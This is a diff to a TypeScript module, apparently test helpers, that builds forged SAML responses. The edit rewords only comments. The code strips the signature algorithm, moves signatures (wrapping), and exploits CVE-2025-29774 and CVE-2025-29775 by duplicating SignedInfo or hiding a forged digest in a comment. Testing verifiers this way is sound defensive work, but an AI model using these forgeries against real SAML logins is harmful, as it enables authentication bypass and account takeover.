@@ -1,4 +1,4 @@
-/** Changes to a response after it was signed; on text, so that nothing else of it moves. */
+/** Changes a response after it was signed; works on text, so that the rest is left byte-identical. */
 
 const ASSERTION = /<saml:Assertion [^]*<\/saml:Assertion>/;
 const SIGNATURE = /<ds:Signature [^]*?<\/ds:Signature>/g;
@@ -30,21 +30,21 @@ export const replaced = (what: string | RegExp, by: string) => (xml: string) => 
   return changed;
 };
 
-/** The signature says that nothing was needed to make it. */
+/** The signature names no algorithm. */
 export const withoutAlgorithm = (xml: string): string =>
   xml
     .replaceAll(/(<ds:SignatureMethod Algorithm=")[^"]*/g, '$1none')
     .replaceAll(new RegExp(SIGNATURE_VALUE, 'g'), '<ds:SignatureValue/>');
 
-/** The signature of the assertion is put on the response around it. */
+/** Moves the signature of the assertion to the response around it. */
 export const withMovedSignature = (xml: string): string => {
   const [signature = ''] = xml.match(SIGNATURE) ?? [];
   return xml.replace(SIGNATURE, '').replace('</saml:Issuer>', (end) => `${end}${signature}`);
 };
 
 /**
- * The forged document with what was truly signed beside what describes the forgery: a library that checks the one and
- * believes the other takes it (CVE-2025-29774).
+ * The forged document with the genuine SignedInfo next to that of the forgery: accepted by a library that verifies one and trusts the other
+ * (CVE-2025-29774).
  */
 export const withTwoSignedInfos = (good: string, order: 'good-first' | 'good-last') => (forged: string) => {
   const own = found(SIGNED_INFO, forged);
@@ -53,7 +53,7 @@ export const withTwoSignedInfos = (good: string, order: 'good-first' | 'good-las
   return put(SIGNATURE_VALUE, value)(put(SIGNED_INFO, order === 'good-first' ? real + own : own + real)(forged));
 };
 
-/** The digest of the forgery in a comment before the one that was signed, which signing passes over (CVE-2025-29775). */
+/** The digest of the forgery in a comment before the signed digest, which canonicalization ignores (CVE-2025-29775). */
 export const withDigestInComment = (good: string) => (forged: string) => {
   const digest = DIGEST.exec(forged)?.[2];
   const info = found(SIGNED_INFO, good).replace(DIGEST, `$1<!--${digest}-->$2$3`);
